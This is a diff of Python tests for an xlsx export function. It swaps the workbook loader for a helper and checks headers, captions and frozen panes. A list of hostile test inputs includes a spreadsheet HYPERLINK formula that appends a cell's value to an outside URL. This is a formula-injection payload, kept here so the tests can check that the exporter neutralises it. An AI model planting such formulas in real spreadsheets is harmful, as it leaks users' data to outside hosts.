@@ -10,9 +10,9 @@ import zipfile
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from openpyxl import load_workbook
 
 from backend.core.workbook import Table, xlsx_bytes
+from tests.xlsx_support import read_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://x?x="&C2,"点击")',
@@ -62,7 +62,7 @@ def formulas(content: bytes) -> list[str]:
 
 
 def read_back(content: bytes) -> list[list[tuple[object, str]]]:
-    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    sheet = read_workbook(content).worksheets[0]
     return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
 
 
@@ -98,7 +98,7 @@ def test_identifiers_given_as_numbers_are_written_as_text() -> None:
 def test_caption_rows_a_bold_frozen_header_and_widths() -> None:
     content = xlsx_bytes([Table("附件1", ["序号", "未成年人姓名"], [[1, "张一"]],
                                 captions=["附件1：", "重点未成年人摸排台账"])])
-    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    sheet = read_workbook(content).worksheets[0]
     assert [c.value for c in sheet[1]][:1] == ["附件1："] and sheet["A2"].value == "重点未成年人摸排台账"
     assert sheet["A3"].value == "序号" and sheet["B3"].font.b
     assert sheet.freeze_panes == "A4"
